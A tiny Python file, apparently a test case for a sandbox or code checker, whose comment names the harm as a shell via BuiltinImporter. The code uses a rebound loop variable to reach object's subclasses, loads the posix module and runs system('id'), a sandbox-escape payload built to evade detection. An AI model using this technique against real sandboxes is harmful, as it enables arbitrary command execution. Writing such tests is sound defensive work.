# HARM: shell via BuiltinImporter | TRICK: direct loop over Base.__subclasses__ but loop var rebound by nested for-target
class Base: pass
class A(Base): pass
for s in Base.__subclasses__():
    for s in (object,):
        pass
    for k in s.__subclasses__():
        if k.__name__ == 'BuiltinImporter':
            k.load_module('posix').system('id')
